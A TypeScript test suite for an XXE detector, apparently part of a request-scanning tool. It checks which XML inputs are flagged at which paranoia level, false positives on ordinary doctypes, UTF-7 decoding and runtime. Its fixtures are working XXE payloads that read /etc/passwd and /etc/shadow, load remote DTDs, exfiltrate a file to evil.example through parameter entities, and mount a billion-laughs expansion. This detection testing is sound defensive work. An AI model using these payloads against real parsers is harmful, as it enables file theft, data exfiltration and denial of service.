import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { DetectorContext, Finding } from '../../finding.ts';
import { decodeUtf7, xxeDetector as detector } from './xxe.ts';
import { detectorRunner } from '../../../../test/helpers/detector-harness.ts';

const run = detectorRunner(detector, { source: 'body', name: '' });
const lowest = (fs: Finding[]): number => Math.min(4, ...fs.map((f) => f.paranoia));

/** [value, highest paranoia level at which it must be found, context]. */
const attacks: [string, 1 | 2 | 3, Partial<DetectorContext>?][] = [
  ['<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', 1],
  ['<!DOCTYPE foo [ <!ELEMENT foo ANY ><!ENTITY xxe SYSTEM "http://evil.example/x.txt" > ] > <foo>&xxe;</foo>', 1],
  ['<!DOCTYPE foo [<!ENTITY x SYSTEM "expect://id">]><foo>&x;</foo>', 1],
  ['<!DOCTYPE foo [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><foo>&x;</foo>', 1],
  ['<!DOCTYPE foo [<!ENTITY data SYSTEM "netdoc:/etc/passwd">]><foo>&data;</foo>', 1],
  ["<!DOCTYPE r [<!ENTITY x SYSTEM 'jar:http://evil.example/a.zip!/b'>]><r>&x;</r>", 1],
  ['<!DOCTYPE x [ <!ENTITY % y SYSTEM "//evil.example/y" > %y; ]><x>a</x>', 1],
  ['<!DOCTYPE x [<!ENTITY % xxe PUBLIC "any_text" "http://evil.example/evil.dtd">%xxe;]><root>&xxe;</root>', 1],
  ['<!DOCTYPE x SYSTEM "//evil.example/x" > <x>a</x>', 1],
  ['<!DOCTYPE note SYSTEM "http://evil.example/note.dtd"><note/>', 1],
  ['<!doctype foo system "http://evil.example/a.dtd"><foo/>', 1],
  ['<!DOCTYPE   foo   [\n  <!ENTITY   xxe   SYSTEM   "file:///c:/windows/win.ini"  >\n]>', 1],
  ['<!ENTITY xxe SYSTEM "file:///etc/shadow">', 1],
  ['<!ENTITY greeting "hello">', 1],
  ['<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>', 1],
  ['<!DOCTYPE d [<!ENTITY % p "<!ENTITY exfil SYSTEM \'http://evil.example/?%file;\'>"> %p;]>', 1],
  ['<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>', 1],
  ['<xi:include href="/etc/passwd" parse="text"/>', 1],
  ['<?xml version="1.0"?><xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include namespace="http://evil.example/"/></xs:schema>', 1],
  ['<xsd:import schemaLocation="http://evil.example/x.xsd"/>', 1],
  ['<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://evil.example/"/>', 1],
  ['<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="http://evil.example/x.xsd"/>', 1],
  ['http://evil.example/', 1, { name: 'xsi:schemaLocation' }],
  ['<?xml version="1.0" encoding="UTF-7"?>\n+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ENTITY xxe SYSTEM +ACI-http://evil.example:1337+ACI +AD4AXQA+\n+ADw-foo+AD4AJg-xxe+ADsAPA-/foo+AD4', 1],
  ['<svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><text>&x;</text></svg>', 1],
  // weaker
  ['<!DOCTYPE note [<!ELEMENT note (to)>]><note><to>a</to></note>', 2],
  ['<x xsi:schemaLocation="http://example.com/ns http://example.com/ns.xsd"/>', 2],
  ['<!DOCTYPE note><note/>', 3],
];

const benign: [string, Partial<DetectorContext>?][] = [
  ['<!DOCTYPE html><html><body>hi</body></html>'],
  ['<!doctype html>\n<html lang="en"><head><title>x</title></head></html>'],
  ['<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>'],
  ['<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd">'],
  ['<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>'],
  ['<!DOCTYPE html SYSTEM "about:legacy-compat">'],
  ['<?xml version="1.0" encoding="UTF-8"?><order><id>42</id><note>Fish &amp; chips</note></order>'],
  ['<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice><Item>Apple</Item></GetPrice></soap:Body></soap:Envelope>'],
  ['<!-- a comment --><root/>'],
  ['<![CDATA[ <!ENTITY not really> ]]>'.replace('<!ENTITY not really>', 'x < y')],
  ['An entity in HTML is written &amp;name; and the system is up.'],
  ['The SYSTEM and PUBLIC keywords are used in DTDs.'],
  ['Include the file (see include: a.txt)'],
  ['I love C++ and ADwords +ADw-'],
  ['feed xmlns:atom="http://www.w3.org/2005/Atom" with http://example.com/x'],
];

test('XXE and DTD abuse are found at the expected paranoia level', () => {
  for (const [value, level, ctx] of attacks) {
    const fs = run(value, ctx);
    assert.ok(fs.length > 0, `missed: ${JSON.stringify(value)}`);
    assert.ok(lowest(fs) <= level, `${JSON.stringify(value)}: found only at paranoia ${lowest(fs)}, expected ${level}`);
    for (const f of fs) {
      assert.equal(f.category, 'xxe');
      assert.match(f.ruleId, /^xxe-[a-z-]+$/);
      assert.ok(f.matched.length > 0 && f.matched.length <= 120);
    }
    if (level === 1) assert.ok(fs.some((f) => f.paranoia === 1 && f.score === 5), `${JSON.stringify(value)} does not score 5`);
  }
});

test('ordinary XML and HTML doctypes are not flagged at paranoia 1', () => {
  for (const [value, ctx] of benign) {
    const fs = run(value, ctx).filter((f) => f.paranoia === 1);
    assert.deepEqual(fs.map((f) => `${f.ruleId}: ${f.matched}`), [], `false positive: ${JSON.stringify(value)}`);
  }
});

test('UTF-7 decoding', () => {
  assert.equal(decodeUtf7('+ADw-a+AD4-'), '<a>');
  assert.equal(decodeUtf7('1 +- 1'), '1 + 1');
  assert.equal(decodeUtf7('no shift'), 'no shift');
});

test('never throws, and stays linear', () => {
  const chars = '<!DOCTYPEENTITY%;&"\'[]> SYSTEMPUBLIC+ADw-';
  for (let k = 0; k < 300; k++) {
    let s = '';
    for (let j = 0; j < 1 + (k % 300); j++) s += chars[Math.floor(Math.random() * chars.length)];
    run(s);
  }
  const cases = ['<!ENTITY '.repeat(22_000), '<!DOCTYPE a [' + '<!ENTITY a "&b;&c;">'.repeat(10_000), '<!'.repeat(100_000),
    '+ADw-'.repeat(40_000), '%a;'.repeat(66_000), '<xi:include '.repeat(16_000), ':schemaLocation="'.repeat(11_000),
    '<p>Plain XML text with &amp; entities and <b>bold</b> words.</p>'.repeat(3000)];
  for (const v of cases) {
    let ms = Infinity;
    for (let k = 0; k < 10 && ms >= 50; k++) { // best of up to ten, in CPU time (first runs compile; busy machines)
      const t = process.cpuUsage();
      run(v);
      const used = process.cpuUsage(t);
      ms = Math.min(ms, (used.user + used.system) / 1000);
    }
    assert.ok(ms < 250, `${JSON.stringify(v.slice(0, 20))}… took ${ms.toFixed(1)} ms`);
  }
});
